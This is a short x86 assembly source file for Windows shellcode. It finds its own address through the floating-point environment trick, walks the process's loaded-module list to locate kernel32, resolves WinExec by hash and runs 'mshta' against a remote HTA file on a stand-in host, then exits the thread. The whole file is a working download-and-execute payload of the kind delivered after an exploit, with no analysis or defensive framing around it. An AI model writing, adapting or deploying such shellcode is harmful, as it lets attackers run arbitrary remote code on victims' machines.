# Starts a command; finds itself by the floating-point unit's state and kernel32 by the list of memory order.
.include "common.inc"
start:
  fldz
  fnstenv [esp - 12]
  pop esi                     # address of fldz
  push 0x30
  pop ecx
  mov ebx, fs:[ecx]
  mov ebx, [ebx + 0x0C]
  mov ebx, [ebx + 0x14]       # the program, ntdll, kernel32
  mov ebx, [ebx]
  mov ebx, [ebx]
  mov ebx, [ebx + 0x10]
  add esi, offset text - start
  push 5
  push esi
  call_by_hash WinExec
  push 0
  call_by_hash ExitThread
find_function_code
text:
  .asciz "mshta http://files.example/specimen.hta"
